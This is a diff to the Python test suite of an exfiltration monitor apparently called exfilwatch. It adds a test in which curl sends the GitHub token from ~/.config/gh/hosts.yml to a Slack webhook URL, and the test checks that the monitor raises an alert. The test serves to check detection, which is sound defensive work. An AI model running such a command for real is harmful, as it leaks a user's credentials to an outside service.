@@ -28,7 +28,7 @@ NAMES = (
     "github.com", "api.github.com", "s3.amazonaws.com", "own-backups.s3.amazonaws.com",
     "other-bucket.s3.amazonaws.com", "own-backups.s3.us-east-1.amazonaws.com",
     "other-bucket.s3.us-east-1.amazonaws.com", "s3.dualstack.us-east-1.amazonaws.com",
-    "backup.corp.example",
+    "backup.corp.example", "hooks.slack.com",
 )
 FLOW_TIMEOUT_S = 20.0
 ALERT_TIMEOUT_S = 20.0
@@ -452,6 +452,26 @@ def test_gh_api_with_the_aws_key_in_an_issue_body_alerts(monitor, home, storage,
              and get(r, "exfilwatch.content.source") == "argv"]
     assert any(m.get("location") == "argument" for r in scans
                for m in as_list(get(r, "exfilwatch.content.matches", []))), scans
+    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
+                                         extra_args=["--rules", str(rules_file)])
+    assert returncode == 0, stderr
+    assert sorted(map(alert_key, filter(is_alert, records))) == sorted(map(alert_key, filter(is_alert, monitor.records())))
+
+
+def test_curl_with_the_hosts_yml_token_in_an_authorization_header_to_a_webhook_alerts(monitor, home, storage,
+                                                                                       tmp_path, rules_file):
+    # hosts.yml names github.com for its token: in an Authorization header to another site it is
+    # not authenticating to anything it belongs to. Twin, silent: the same header to api.github.com
+    # (test_curl_posting_a_ci_status_with_the_token_in_a_header_is_silent).
+    # (No -f: the stand-in has no webhook to answer with; it logs the request all the same.)
+    run(TOKEN + CURL.replace(" -f ", " ") + f"""-H "Authorization: token $TOKEN" -H 'Content-Type: application/json' """
+        f"""-d '{{"text":"deployed"}}' https://hooks.slack.com/services/T0/B0/X0""", home, storage, tmp_path)
+    uploaded(storage, "POST", "/services/T0/B0/X0")
+    found = assert_alert_here(monitor, home, "T1567.004")
+    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
+                if s.get("name") == "content-match"]
+    assert any(e.startswith("content of ~/.config/gh/hosts.yml") and "to a site its file does not name it for" in e
+               for e in evidence), evidence
     returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
                                          extra_args=["--rules", str(rules_file)])
     assert returncode == 0, stderr
